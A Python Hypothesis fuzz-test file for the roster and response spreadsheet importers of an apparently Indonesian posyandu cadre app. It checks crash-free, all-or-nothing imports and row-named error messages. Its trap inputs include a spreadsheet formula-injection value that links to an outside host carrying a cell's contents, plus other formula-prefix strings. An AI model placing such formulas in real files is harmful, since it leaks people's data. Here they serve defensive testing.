"""Fuzzing the importers with generated rows and files — at least 1,000 cases per run across the roster and the
response imports, the traps of issue 21 included (fullwidth and Arabic-Indic digits, zero-width and control
characters, U+2028, NUL, 10,000-character names, formula text, month-first dates, Windows-1252 and UTF-16 CSV):
no crash, nothing partly written, every refusal naming its row (and column, where one column is at fault).
The number of generated cases is printed (pytest -s) and asserted."""

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from desktop.instruments.loader import load_instrument
from desktop.models.errors import UserError
from desktop.models.kader_history import ClassificationAssessment, TrainingRecord
from desktop.models.people import Kader, Posyandu
from desktop.models.records import InstrumentRecord, RecordAnswer
from desktop.models.schedule import FollowUp
from desktop.models.settings import current_puskesmas
from desktop.services import responses_import, roster_import
from desktop.services.roster_import import RosterError

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")  # openpyxl warns about the absurd dates we feed it
ROSTER_CASES, RESPONSE_CASES = 760, 260


def _settings(cases):
    return settings(max_examples=cases, deadline=None, database=None, derandomize=True,  # same cases every CI run
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large])


TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=24)
TRAPS = st.sampled_from([
    "３２１６０１４５０３８５０００１", "٣٢١٦٠١٤٥٠٣٨٥٠٠٠١", "³²¹⁶⁰¹⁴⁵⁰³⁸⁵⁰⁰⁰¹", "0000000000000000", "3216019903850001",
    "3216014503850001", "3216010101800003", "\u200b", "Siti\u200b Aminah", "Siti Aminah", "Siti\u2028Aminah",
    "Rina\x00Wati", "Ani\x07\x1b", "x" * 10_000, "=HYPERLINK(\"http://x/?d=\"&B2,\"Klik\")", "+62 812-3456-7890",
    "-1", "@SUM(A1)", "\tTab", "\rCR", "03/25/1985", "25/03/1985", "12/03/1985", "1985-03-12", "29/02/2023",
    "81234567890", "abc", "Madya", "purwa", "UTAMA", "Batch 3", "Wédari", "Ñoño", "€", "Posyandu Melati 1",
])
TYPICAL = st.sampled_from(["Melati 1", "Mawar 1", "Pelangi A", "31/02/1990", "12/03/1985", "L", "P", "sudah", "",
                           "Sirnajati", "Madya", "2019", "Belum"])
cell = st.one_of(st.none(), TEXT, TRAPS, TYPICAL, st.integers(-10**17, 10**17),
                 st.floats(allow_nan=True, allow_infinity=False), st.dates(dt.date(1900, 1, 1), dt.date(2100, 12, 31)))
ROSTER_HEADER = ["Nama Kader", "NIK", "No. HP/WA", "L/P", "Tgl Lahir", "Nama Posyandu", "Desa/Kel", "Tahun Mulai",
                 "Pelatihan", "Klasifikasi", "Tanggal Klasifikasi", "Angkatan Pelatihan", "Tanggal Sertifikat",
                 "Keterangan"]
# "Baris 7, kolom NIK: …" for a cell, "Baris 7: …" / "Baris 7, 9: …" for rows, "Kolom …" for a whole column
NAMED = re.compile(r"^(Baris \d+(, \d+)*…?(, kolom [^:]+)?: \S|Kolom \S|Desa baru )")
FIRST = ["Siti", "Rina", "Dewi", "Ani", "Nur", "Sri", "Yuni", "Wédari", "SITI", "Tia"]
LAST = ["Aminah", "Lestari", "Marlina", "Rahmawati", "Kartika", "Ñoño", "AMINAH", "Susanti"]


@st.composite
def plausible(draw):
    """A row an office could have typed, with now and then one cell replaced by a trap or noise."""
    female = draw(st.booleans())
    born = draw(st.dates(dt.date(1950, 1, 1), dt.date(2005, 12, 31)))
    nik = (f"3216{draw(st.integers(1, 30)):02d}{born.day + (40 if female else 0):02d}{born:%m%y}"
           f"{draw(st.integers(1, 9999)):04d}")
    row = [f"{draw(st.sampled_from(FIRST))} {draw(st.sampled_from(LAST))}",
           draw(st.sampled_from([nik, "", 3216014503850000.0])),
           draw(st.sampled_from(["081234567890", "", 81298765432])),
           "P" if female else "L", draw(st.sampled_from([born, f"{born:%d/%m/%Y}", f"{born:%m/%d/%Y}", ""])),
           draw(st.sampled_from(["Melati 1", "Mawar 1", "Anggrek 1", "Posyandu Baru", "Melati 1"])),
           draw(st.sampled_from(["", "Sirnajati", "Desa Baru"])), draw(st.sampled_from(["", 2019, "2024"])),
           draw(st.sampled_from(["", "Sudah", "belum", "Sedang"])), draw(st.sampled_from(["", "Madya", "purwa"])),
           draw(st.sampled_from(["", "12/08/2025"])), draw(st.sampled_from(["", "Batch 3"])), "",
           draw(st.sampled_from(["", "catatan"]))]
    if draw(st.integers(0, 3)) == 0:
        row[draw(st.integers(0, len(row) - 1))] = draw(st.one_of(TRAPS, TEXT))
    return row


FORMATS = st.sampled_from(["xlsx", "csv-utf8", "csv-bom", "csv-cp1252", "csv-utf16"])


def _counts():
    return (Kader.select().count(), Posyandu.select().count(), InstrumentRecord.select().count(),
            RecordAnswer.select().count(), ClassificationAssessment.select().count(), TrainingRecord.select().count(),
            FollowUp.select().count())


def _xlsx_value(value):
    if isinstance(value, float) and value != value:
        return float("nan")
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)  # openpyxl cannot write them; the CSV cases carry them
    return value


def _save(path, kind, header, rows):
    if kind == "xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(["DAFTAR KADER (uji acak)"])
        sheet.append(header)
        for row in rows:
            sheet.append([_xlsx_value(v) for v in row])
        book.save(path)
        return path
    encoding = {"csv-utf8": "utf-8", "csv-bom": "utf-8-sig", "csv-cp1252": "cp1252", "csv-utf16": "utf-16"}[kind]
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=";" if kind != "csv-utf8" else ",", lineterminator="\r\n")
    writer.writerow(["DAFTAR KADER (uji acak)"])
    writer.writerows([header, *[["" if v is None else (f"{v:%d/%m/%Y}" if isinstance(v, dt.date) else v)
                                 for v in row] for row in rows]])
    path.write_bytes(text.getvalue().encode(encoding, errors="replace"))
    return path


@pytest.fixture
def seen():
    box = {"cases": 0, "rejected": 0, "imported": 0}
    yield box
    print(f"{box['cases']} generated files, {box['rejected']} rejected, {box['imported']} imported")


def test_at_least_a_thousand_cases_per_run():
    assert ROSTER_CASES + RESPONSE_CASES >= 1000


def test_roster_import_never_crashes_or_half_writes(demo_db, tmp_path, seen):
    noise = st.lists(cell, min_size=len(ROSTER_HEADER), max_size=len(ROSTER_HEADER))

    @_settings(ROSTER_CASES)
    @given(st.one_of(st.lists(plausible(), min_size=1, max_size=4), st.lists(st.one_of(plausible(), noise),
                                                                            min_size=1, max_size=8)),
           st.booleans(), st.booleans(), FORMATS)
    def run(rows, create_missing, allow_moves, kind):
        seen["cases"] += 1
        path = _save(tmp_path / f"acak.{'xlsx' if kind == 'xlsx' else 'csv'}", kind, ROSTER_HEADER, rows)
        before = _counts()
        try:
            plan = roster_import.import_file(path, current_puskesmas(), create_missing, allow_moves=allow_moves)
        except RosterError as exc:
            seen["rejected"] += 1
            assert _counts() == before  # nothing partly written
            assert exc.problems and all(NAMED.match(p) for p in exc.problems), exc.problems
            return
        except UserError as exc:
            seen["rejected"] += 1
            assert _counts() == before
            assert "Berkas" in str(exc), str(exc)  # file-level: the header or the file itself is named
            return
        seen["imported"] += 1
        assert _counts()[0] == before[0] + plan.creates
        stored = [k.name for k in Kader.select(Kader.name).order_by(Kader.id.desc()).limit(plan.creates)]
        assert all(0 < len(n) <= 100 and "\x00" not in n and "\u200b" not in n for n in stored)

    run()
    assert seen["cases"] >= ROSTER_CASES * 0.95


def test_response_import_never_crashes_or_half_writes(demo_db, tmp_path, seen):
    inst = load_instrument("observasi_posyandu")
    template = responses_import.write_template(inst, tmp_path / "templat.xlsx")
    from desktop.reports.instrument_excel import DATA_SHEET, FIRST_ROW

    width = openpyxl.load_workbook(template)[DATA_SHEET].max_column

    @_settings(RESPONSE_CASES)
    @given(st.lists(st.lists(cell, min_size=width, max_size=width), min_size=1, max_size=4))
    def run(rows):
        seen["cases"] += 1
        book = openpyxl.load_workbook(template)
        sheet = book[DATA_SHEET]
        for r, row in enumerate(rows):
            for c, value in enumerate(row, start=1):
                sheet.cell(FIRST_ROW + r, c, _xlsx_value(value))
        path = tmp_path / "isi.xlsx"
        book.save(path)
        before = _counts()
        try:
            count = responses_import.import_responses(inst, path).count
        except UserError as exc:
            seen["rejected"] += 1
            assert _counts() == before
            text = str(exc)
            assert "baris " in text or "Kolom" in text or "tidak berisi baris jawaban" in text, text
            return
        seen["imported"] += 1
        assert _counts()[2] == before[2] + count

    run()
    assert seen["cases"] >= RESPONSE_CASES * 0.95
